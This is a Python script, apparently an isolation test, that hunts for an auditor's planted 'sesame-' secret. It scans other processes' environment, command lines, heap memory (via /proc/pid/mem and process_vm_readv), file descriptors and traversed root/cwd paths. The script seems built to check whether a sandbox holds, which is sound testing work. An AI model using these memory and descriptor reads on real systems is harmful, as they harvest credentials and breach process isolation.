"""Look for a secret where the auditor may have left it: other processes, files, descriptors."""

import ctypes
import json
import os
import re
from contextlib import suppress
from pathlib import Path

FACTS = json.loads(os.environ.pop("FACTS"))
SECRET = re.compile(rb"sesame-[0-9a-f]{16}")
MOST = 2**20


def read(path, offset=0):
    """The beginning of a file, also of one that would block."""
    with suppress(OSError, ValueError, OverflowError):
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(file, "rb", 0) as opened:
            opened.seek(offset)
            return opened.read(MOST) or b""
    return b""


def others():
    """All processes but this one."""
    pids = [path.name for path in Path("/proc").glob("[0-9]*")]
    return sorted({*pids, *map(str, FACTS["pids"])} - {str(os.getpid())}, key=int)


def memory(pid):
    """What a process has in its heap, by /proc and by a system call."""
    for line in read(f"/proc/{pid}/maps").decode().splitlines():
        if "[heap]" in line:
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            yield "mem", read(f"/proc/{pid}/mem", start)
            size = min(MOST, end - start)
            data = ctypes.create_string_buffer(size)
            here = (ctypes.c_void_p * 2)(ctypes.addressof(data), size)
            there = (ctypes.c_void_p * 2)(start, size)
            ctypes.CDLL(None).process_vm_readv(int(pid), here, 1, there, 1, 0)
            yield "process_vm_readv", data.raw


def places():
    """Where to look, and what is there."""
    yield "own environ", b"".join(b"%s=%s" % item for item in os.environb.items())
    for number in range(3, 200):
        yield "own descriptor", read(f"/proc/self/fd/{number}")
    for path in FACTS["files"]:
        yield f"file {path}", read(path)
    for pid in others():
        yield "environ", read(f"/proc/{pid}/environ")
        yield "cmdline", read(f"/proc/{pid}/cmdline")
        yield from memory(pid)
        for path in FACTS["files"]:
            yield "root", read(f"/proc/{pid}/root{path}")
            yield "cwd", read(f"/proc/{pid}/cwd/../../../../../../../../{path}")
        for number in range(200):
            if SECRET.search(read(f"/proc/{pid}/fd/{number}")):
                yield "descriptor", read(f"/proc/{pid}/fd/{number}")


for place, data in places():
    if SECRET.search(data):
        print("got:", place)
